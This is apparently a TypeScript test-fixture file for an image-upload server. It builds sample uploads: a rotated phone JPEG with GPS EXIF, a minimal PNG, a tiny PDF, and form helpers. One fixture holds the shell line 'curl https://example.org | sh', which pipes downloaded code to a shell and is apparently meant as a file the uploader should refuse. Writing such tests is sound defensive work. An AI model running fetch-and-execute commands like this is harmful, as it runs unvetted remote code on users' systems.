import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { noSlot } from "#server/gate.ts";
import type { Turn } from "#server/pictures/picture-cache.ts";
import type { AcceptContext } from "#server/uploads/accept-image.ts";
import type { Upload } from "#server/uploads/upload.ts";

/**
 * Returns a picture, left red and right blue, as an upright phone stores it: rotated, with its
 * location and make.
 */
export async function phonePhoto(): Promise<Buffer> {
  const red = await sharp(plainImage("#d00", 400, 400))
    .png()
    .toBuffer();
  return sharp(plainImage("#00d", 800, 400))
    .composite([{ input: red, left: 0, top: 0 }])
    .jpeg()
    .withExif({
      IFD0: { Make: "Somebody's phone" },
      IFD3: { GPSLatitudeRef: "S", GPSLatitude: "4/1 52/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

export const plainImage = (background: string, width: number, height: number) => ({
  create: { width, height, channels: 3 as const, background },
});

/** Returns a valid all-black PNG of a size in pixels, in few bytes. */
export function blackPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height), { level: 1 });
  const start = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
  return Buffer.concat([start, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND")]);
}

function chunk(name: string, content = Buffer.alloc(0)): Buffer {
  const named = Buffer.concat([Buffer.from(name, "latin1"), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** The smallest file that starts and ends like a PDF. */
export const smallPdf = Buffer.from(
  "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
);

export const shellScript = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");

export const createUpload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
  ({ field: "picture", fileName, declaredType, bytes }) satisfies Upload;

/** A turn in the queue that needs no waiting. */
export const immediateTurn: Turn = { caller: "", run: (make) => make() };
export const acceptImmediately: AcceptContext = {
  actor: { kind: "visitor" },
  address: "",
  pictureWork: (_by, _memory, make) => make(),
  slot: noSlot,
};

/** Returns a form as a browser posts it. Use `createFile` for a field with a file. */
export function postedForm(
  fields: Record<string, string | File>,
): RequestInit & { body: FormData } {
  const body = new FormData();
  for (const [name, value] of Object.entries(fields)) body.append(name, value);
  return { method: "POST", body };
}

export const createFile = (bytes: Buffer, name: string, type = "") =>
  new File([new Uint8Array(bytes)], name, { type });
